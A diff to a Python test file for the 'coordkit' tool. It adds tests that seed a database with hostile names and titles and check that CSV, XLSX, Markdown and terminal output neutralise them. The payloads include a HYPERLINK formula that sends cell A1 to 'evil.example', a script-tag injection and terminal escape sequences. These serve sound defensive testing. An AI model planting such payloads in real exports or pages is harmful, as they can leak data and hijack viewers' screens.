@@ -16,6 +16,7 @@ import pytest
 from coordkit import files
 from coordkit.errors import InvalidInput
 from coordkit.files import atomic_write, read_limited, safe_stored_name, store_by_hash
+from tests.conftest import ok, run_coord
 
 # ---------------------------------------------------------------- 1. coordkit/files.py
 
@@ -216,7 +217,6 @@ KILL_AT = Path(__file__).resolve().parent / "kill_at.py"
 @pytest.fixture(scope="module")
 def example_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
     """The Liede Renjia example in a store: 19 KB of export, four agreements."""
-    from conftest import run_coord
 
     db = tmp_path_factory.mktemp("example") / "coord.db"
     for args in (("init",), ("apply", str(EXAMPLE))):
@@ -240,7 +240,6 @@ def spy_on_atomic_write(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
 def test_export_render_and_demo_write_through_atomic_write(
     example_store: Path, isolated: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    from conftest import ok
 
     from coordkit.services.demo import _write
 
@@ -262,7 +261,6 @@ def test_export_render_and_demo_write_through_atomic_write(
 
 
 def test_export_over_a_symlink_replaces_the_link_not_its_target(example_store: Path, isolated: Path) -> None:
-    from conftest import ok
 
     secret = isolated / "authorized_keys"
     secret.write_text("the owner's key\n")
@@ -310,7 +308,6 @@ def test_a_write_the_os_refuses_half_way_leaves_the_old_file(isolated: Path) -> 
 def test_export_on_a_full_disk_exits_2_and_keeps_the_old_file(
     example_store: Path, isolated: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    from conftest import run_coord
 
     def full(fd: int, data: bytes) -> None:
         raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
@@ -328,7 +325,6 @@ def test_export_on_a_full_disk_exits_2_and_keeps_the_old_file(
 
 
 def test_render_all_into_an_existing_file_is_one_error(example_store: Path, isolated: Path) -> None:
-    from conftest import run_coord
 
     (isolated / "report.pdf").write_text("not a folder")
     result = run_coord("--db", str(example_store), "agreement", "render", "--all", "-o", "report.pdf")
@@ -342,7 +338,6 @@ def test_render_all_into_an_existing_file_is_one_error(example_store: Path, isol
 def test_render_all_ctrl_c_says_how_many_files_were_written(
     example_store: Path, isolated: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    from conftest import run_coord
 
     from coordkit.render import documents
 
@@ -391,7 +386,6 @@ def _kill(store: Path, cwd: Path, event: str, count: int, *args: str) -> None:
 def test_export_killed_at_any_point_leaves_the_old_file_or_the_whole_new_one(
     example_store: Path, isolated: Path, event: str, count: int, survivor: str
 ) -> None:
-    from conftest import ok
 
     whole = ok("--db", str(example_store), "export")
     assert len(whole) > 15_000
@@ -405,7 +399,6 @@ def test_export_killed_at_any_point_leaves_the_old_file_or_the_whole_new_one(
 def test_render_all_killed_mid_document_leaves_only_whole_documents(
     example_store: Path, isolated: Path, tmp_path: Path
 ) -> None:
-    from conftest import ok
 
     reference = tmp_path / "reference"
     ok("--db", str(example_store), "agreement", "render", "--all", "-f", "html", "-o", str(reference))
@@ -415,3 +408,86 @@ def test_render_all_killed_mid_document_leaves_only_whole_documents(
     _kill(example_store, isolated, "write", chunks + 2, "agreement", "render", "--all", "-f", "html", "-o", "docs")
     assert sorted(p.name for p in (isolated / "docs").iterdir() if not p.name.endswith(".coord-tmp")) == [first.name]
     assert (isolated / "docs" / first.name).read_bytes() == first.read_bytes()
+
+
+# ---------------------------------------------------------------- 4. cells: spreadsheets, terminals, Markdown
+
+EVIL_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+
+
+@pytest.fixture(scope="module")
+def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """Names and titles a hostile tester typed: a formula, escape sequences, HTML, a bell."""
+
+    db = str(tmp_path_factory.mktemp("hostile") / "coord.db")
+    for args in (
+        ["init"],
+        ["stakeholder", "add", "evil", "--name", "<script>alert(1)</script>|x", "--kind", "other"],
+        ["stakeholder", "add", "esc", "--name", "Title\x1b]0;pwned\x07 Clear\x1b[2J\x9b31m", "--kind", "other"],
+        ["project", "add", "p", "--name", "P"],
+        ["duty", "add", "link", "--title", EVIL_TITLE, "--category", "@SUM(A1)", "-p", "p"],
+        ["duty", "add", "bell", "--title", "ring\x07\x1b[31mred\x7f", "--category", "-minus", "-p", "p"],
+        ["duty", "assign", "link", "evil", "--as", "R", "-p", "p"],
+        ["duty", "assign", "bell", "esc", "--as", "A", "-p", "p"],
+    ):
+        ok("--db", db, *args)
+    return db
+
+
+def test_matrix_xlsx_stores_formula_text_as_text_and_drops_control_characters(hostile_db: str, isolated: Path) -> None:
+    import openpyxl
+
+    ok("--db", hostile_db, "matrix", "-f", "xlsx", "-o", "m.xlsx")
+    sheet = openpyxl.load_workbook(isolated / "m.xlsx")["Matrix"]
+    rows = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
+    link, bell = rows["link"], rows["bell"]
+    assert (link[1].value, link[3].value) == ("@SUM(A1)", EVIL_TITLE)
+    assert (link[1].data_type, link[3].data_type) == ("s", "s")  # never "f": no live formula
+    assert link[1].quotePrefix and link[3].quotePrefix  # Excel keeps it text even when the cell is edited
+    assert (bell[1].value, bell[3].value) == ("-minus", "ring[31mred")
+    assert bell[1].quotePrefix and not bell[3].quotePrefix
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+
+def test_matrix_and_list_csv_neutralise_formula_cells(hostile_db: str) -> None:
+    import csv
+    import io
+
+    rows = {row[2]: row for row in csv.reader(io.StringIO(ok("--db", hostile_db, "matrix", "-f", "csv")))}
+    assert rows["link"][1:4] == ["'@SUM(A1)", "link", "'" + EVIL_TITLE]
+    assert rows["bell"][1] == "'-minus"
+    listed = {row[2]: row for row in csv.reader(io.StringIO(ok("--db", hostile_db, "duty", "list", "-f", "csv")))}
+    assert "'" + EVIL_TITLE in listed["link"]
+
+
+def test_csv_neutralises_only_text_cells() -> None:
+    from coordkit.output import neutralise, to_csv
+
+    row = {"n": -5, "f": -2.5, "t": "-5", "eq": "=1+1", "plus": "+86 20", "at": "@x", "tab": "\tx", "ok": "a=b"}
+    assert to_csv([row], [(k, k) for k in row]) == "n,f,t,eq,plus,at,tab,ok\n-5,-2.5,'-5,'=1+1,'+86 20,'@x,'\tx,a=b\n"
+    assert neutralise("\rx") == "'\rx"
+
+
+def test_table_output_carries_no_escape_sequences_from_names(hostile_db: str) -> None:
+
+    listed = ok("--db", hostile_db, "stakeholder", "list")
+    assert "Title]0;pwned Clear[2J31m" in listed
+    assert not any(ch in listed for ch in "\x1b\x07\x9b\x7f")
+    matrix = ok("--db", hostile_db, "matrix")
+    assert not any(ch in matrix for ch in "\x1b\x07\x9b\x7f")
+
+
+def test_terminal_text_keeps_rich_colours_and_drops_everything_else() -> None:
+    from coordkit.cli.display import _keep_colours, terminal_text
+
+    assert terminal_text("a\x1b[31mb\tc\nd\x00\x9be") == "a[31mb\tc\nde"
+    assert _keep_colours("\x1b[1mbold\x1b[0m \x1b]0;title\x07\x1b[2J") == "\x1b[1mbold\x1b[0m ]0;title[2J"
+
+
+def test_markdown_escapes_html_and_pipes(hostile_db: str) -> None:
+
+    md = ok("--db", hostile_db, "stakeholder", "list", "-f", "md")
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;\\|x" in md
+    assert "<script>" not in md and "\x1b" not in md
+    matrix = ok("--db", hostile_db, "matrix", "-f", "md")
+    assert "<" not in matrix.replace("&lt;", "")
